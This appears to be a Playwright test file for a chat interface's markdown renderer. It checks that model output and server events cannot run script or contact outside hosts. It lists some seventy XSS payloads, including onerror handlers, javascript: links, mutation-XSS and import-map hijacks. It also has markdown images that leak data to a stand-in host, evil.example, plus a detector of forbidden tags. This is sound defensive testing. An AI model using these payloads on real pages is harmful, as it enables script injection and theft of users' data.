"""What a model writes can show itself and nothing else: no script, no request, no style, no disguise.

Each test's `context` fails besides where anything but our own server was asked, a dialog opened, or the policy broke.
"""

import json
import re

from playwright.sync_api import Page, WebSocketRoute, expect

from tests.web.chatting import answers, open_new, prose, say

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image that tells": "![weather](https://evil.example/?q=secret)",
    "image by reference": "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "image as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "link that runs": "[click](javascript:alert(1))",
    "link that runs, in capitals": "[click](JaVaScRiPt:alert(1))",
    "link that runs, by entities": "[click](&#106;avascript&colon;alert(1))",
    "link to data": "[click](data:text/html,<script>alert(1)</script>)",
    "link without a scheme": "[click](//evil.example/x)",
    "autolink that runs": "<javascript:alert(1)>",
    "handler": '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    "style": '<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>',
    "style sheet": "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "frame": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
    "svg": "<svg><script>alert(1)</script><animate onbegin=alert(2)></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "fence": "```html\n<script>alert(1)</script>\n```",
    "language": '```"><script>alert(1)</script>\nx\n```',
    "link title": '[x](https://example.com "onmouseover=alert(1)")',
    "quote in an address": '[x](https://example.com/"onmouseover="alert(1))',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "id of ours": '<div id="config" data-scroller>x</div>',
    "table": "| a |\n| --- |\n| <img src=x onerror=alert(1)> ![y](https://evil.example/t) |",
    "comment": "<!-- --><img src=x onerror=alert(1)>-->",
    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "preload": '<link rel="preload" as="image" href="https://evil.example/x">',
    "exfiltration by a title": '![a](https://evil.example/a.png "https://evil.example/b")',
    "exfiltration by a link in an image": "[![x](https://evil.example/i)](https://evil.example/l)",
    "image without a scheme": "![x](//evil.example/x.png)",
    "image with line breaks": "![x](\nhttps://evil.example/x\n)",
    "image with an angle address": "![x](<https://evil.example/x y>)",
    "image of a blob": "![x](blob:https://evil.example/1)",
    "image of a file": "![x](file:///etc/passwd)",
    "image by a collapsed reference": "![pic][]\n\n[pic]: https://evil.example/p",
    "reference that runs": "[x][1]\n\n[1]: javascript:alert(1)",
    "link with a tab in its scheme": "[x](java\tscript:alert(1))",
    "link with a control character": "[x](\x01javascript:alert(1))",
    "link to vbscript": "[x](vbscript:msgbox(1))",
    "link to a frame of ours": "[x](filesystem:https://evil.example/x)",
    "encoded scheme": "[x](javascript&#58;alert(1))",
    "backslashes": "[x](\\\\evil.example\\x)",
    "autolink with user info": "<https://you@evil.example/>",
    "bare address": "https://evil.example/?q=secret",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "title element": "<title><img src=x onerror=alert(1)></title>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": '<video autoplay src="https://evil.example/v" onerror=alert(1)></video>',
    "audio": '<audio autoplay src="https://evil.example/a"></audio>',
    "picture": '<picture><source srcset="https://evil.example/s"><img src="https://evil.example/i"></picture>',
    "background attribute": '<table background="https://evil.example/b"><tr><td>x</td></tr></table>',
    "svg use": '<svg><use href="https://evil.example/x#y"/></svg>',
    "svg image": '<svg><image href="https://evil.example/x"/></svg>',
    "mutation by a list": "<ul><li><style><img src=x onerror=alert(1)></style></ul>",
    "mutation by select": "<select><style></select><img src=x onerror=alert(1)>",
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "custom element": "<x-y onfocus=alert(1) tabindex=0 autofocus>x</x-y>",
    "shadow root": '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
    "name that shadows": '<a id="config">x</a><a name="document">y</a><img name="getElementById">',
    "ping": '<a href="https://example.com" ping="https://evil.example/p">x</a>',
    "prefetch": '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="//evil.example">',
    "import map": '<script type="importmap">{"imports": {"./dom.js": "https://evil.example/x.js"}}</script>',
    "speculation": '<script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/"]}]}</script>',
    "nested in a quote and a list": "> - ![x](https://evil.example/q)\n>   <img src=x onerror=alert(1)>",
    "in a heading": "# <img src=x onerror=alert(1)> ![x](https://evil.example/h)",
    "in a table of a list": "- x\n\n  | a |\n  | --- |\n  | ![y](https://evil.example/t) |",
    "in a footnote": "x[^1]\n\n[^1]: ![y](https://evil.example/f)",
    "in code that never ends": "```\n<img src=x onerror=alert(1)>",
    "style by a class": '<p class="notice-line">x</p><a class="image" href="javascript:alert(1)">x</a>',
}
FORBIDDEN = (
    "script, img, iframe, style, form, input, object, embed, link, meta, base, math, template, video, audio, source, "
    "select, textarea, noscript, details, [autofocus], [ping], [srcset]"
)
FAULTS_OF = """(node, forbidden) => {
    const bad = [...node.querySelectorAll(forbidden)].map((one) => one.localName);
    for (const one of node.querySelectorAll("*")) {
        for (const {name, value} of one.attributes) {
            if (name.startsWith("on") || name === "style" || name === "srcset") bad.push(`${name}=${value}`);
            if (name === "src" || name === "action" || name === "background") bad.push(`${name}=${value}`);
            if (name === "href" && !/^(https?:|mailto:|#|\\/(?!\\/))/.test(value)) bad.push(`${name}=${value}`);
            if (name === "id" || (name.startsWith("data-") && one.localName !== "svg")) bad.push(`${name}=${value}`);
        }
        if (one.localName === "a" && !one.relList.contains("noreferrer")) bad.push("a link that tells where from");
    }
    return bad;
}"""
GROW = """async ([payloads, forbidden]) => {
    const { Growing } = await import("/static/js/markdown.js");
    const check = FAULTS_OF;
    const bad = [];
    for (const [name, text] of Object.entries(payloads)) {
        for (const step of [1, 3, text.length]) {
            const node = document.querySelector("[data-messages]").appendChild(document.createElement("div"));
            const growing = new Growing(node);
            for (let end = step; end < text.length; end += step) {
                growing.update(text.slice(0, end));
                const found = check(node, forbidden);
                if (found.length) bad.push([name, text.slice(0, end), found]);
            }
            growing.finish(text);
            const found = check(node, forbidden);
            if (found.length) bad.push([name, "whole", found]);
        }
    }
    await fetch("/healthz");
    return bad;
}"""


def test_there_are_sixty_payloads_and_more():
    assert len(PAYLOADS) >= 60


def test_hostile_text_is_inert_however_its_deltas_are_cut(page: Page):
    open_new(page, "guide")
    assert page.evaluate(GROW.replace("FAULTS_OF", FAULTS_OF), [PAYLOADS, FORBIDDEN]) == []


def test_hostile_text_is_inert_from_the_model_to_the_page(page: Page):
    open_new(page, "assistant")
    for count, name in enumerate(("image that tells", "script", "frame", "mutation by a form", "import map"), 1):
        say(page, PAYLOADS[name])
        expect(answers(page, "done")).to_have_count(count)
        assert prose(page).evaluate(FAULTS_OF, FORBIDDEN) == []


def test_hostile_words_are_text_wherever_else_the_server_may_send_them(page: Page):
    """Names, titles, steps, questions, options, forms, tools, files, notices and errors of a flow."""
    evil = "<img src=x onerror=alert(1)>\"'><script>alert(1)</script>![x](https://evil.example/?q=1)"
    flow = {
        "id": "f", "slug": "guide", "name": evil, "version": 1, "greeting": evil, "suggestions": [evil],
        "params": {"type": "object", "properties": {"a": {"type": "string", "title": evil, "enum": [evil]}}},
    }  # fmt: skip
    schema = {"type": "object", "properties": {evil: {"type": "string", "title": evil, "default": evil}}}
    said = message("user", [{"id": "1", "kind": "text", "text": evil}, part("2", "data", file(evil))])
    turn = {"turn": "t", "seq": 0}
    events = [
        {"type": "turn_start", "message": said, "answer": "a", "attempt": 1, "skill": "flow", "parts": []},
        {"type": "node", "node": evil, "visit": 1, "kind": evil, "state": "error", "title": evil, "error": evil},
        {"type": "node", "node": "n", "visit": 1, "kind": evil, "state": "end", "title": evil, "output": evil, "ms": 1},
        {"type": "part", "part": "p1", "kind": "tool", "data": {"name": evil, "arguments": evil, "result": evil}},
        {"type": "part", "part": "p2", "kind": "reasoning"},
        {"type": "delta", "part": "p2", "text": evil},
        {"type": "part", "part": "p3", "kind": "image", "data": {"file": "https://evil.example/x"}},
        {"type": "part", "part": "p4", "kind": "image", "data": {"file": "/../x", "mime": evil, "name": evil}},
        {"type": "status", "text": evil},
        {"type": "chat", "rev": 9, "title": evil},
        {"type": "question", "question": "q", "text": evil, "options": [], "schema": schema, "expires": evil},
    ]  # fmt: skip

    def serve(line: WebSocketRoute) -> None:
        def answer(text: str) -> None:
            frame = json.loads(text)
            if frame["type"] == "say":
                reply = {"type": "error", "id": frame["id"], "code": evil, "text": evil, "trace": evil}
                line.send(json.dumps(reply))

        line.on_message(answer)
        limits = {"text_chars": 100, "frame_bytes": 1000, "file_bytes": 10}
        line.send(json.dumps({"type": "welcome", "epoch": "e", "seq": 0, "trace": "t", "chat": "c", "flow": flow,
                              "user": {"id": "1", "name": evil}, "limits": limits, "resumed": False}))  # fmt: skip
        chat = {"id": "c", "rev": 1, "title": evil, "head": None}
        line.send(json.dumps({"type": "snapshot", "epoch": "e", "seq": 0, "chat": chat, "messages": [], "more": False,
                              "turns": []}))  # fmt: skip
        for seq, event in enumerate(events, 1):
            line.send(json.dumps({**turn, **event, "seq": seq}))

    page.route_web_socket(re.compile("/chat/"), serve)
    page.goto("/f/guide/")
    expect(page.locator(".question.open")).to_contain_text(evil)
    expect(page.locator("[data-title]")).to_have_text(evil)
    answers(page).locator("details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
    say(page, "hello")
    page.get_by_role("button", name="Send all the same").click()
    expect(page.locator(".message.user .problem")).to_contain_text(evil)
    assert page.locator("img, script:not([src]):not([type='application/json']), iframe").count() == 0
    assert page.locator("[onerror]").count() == 0


def message(role: str, parts: list) -> dict:
    return {
        "id": f"{role}1", "chat": "c", "role": role, "parts": parts, "parent": None, "turn": None, "status": "done",
        "client_id": None, "feedback": None, "created": "2026-01-01T00:00:00.000Z",
    }  # fmt: skip


def part(id: str, kind: str, data: dict) -> dict:
    return {"id": id, "kind": kind, "text": "", "data": data}


def file(name: str) -> dict:
    return {"file": "not-an-id", "name": name, "mime": "text/plain", "bytes": 5}


def test_link_says_where_it_leads(page: Page):
    open_new(page, "assistant")
    say(page, "[your bank](https://evil.example/login)")
    link = prose(page).get_by_role("link")
    expect(link).to_contain_text("evil.example")
    expect(link).to_have_attribute("target", "_blank")


def test_hostile_title_is_text_in_the_list(page: Page):
    open_new(page, "assistant")
    say(page, "<img src=x onerror=alert(1)>")
    expect(page.locator("[data-chats] [aria-current=page] .chat-title")).to_have_text("<img src=x onerror=alert(1)>")
    expect(page.locator("[data-title]")).to_have_text("<img src=x onerror=alert(1)>")
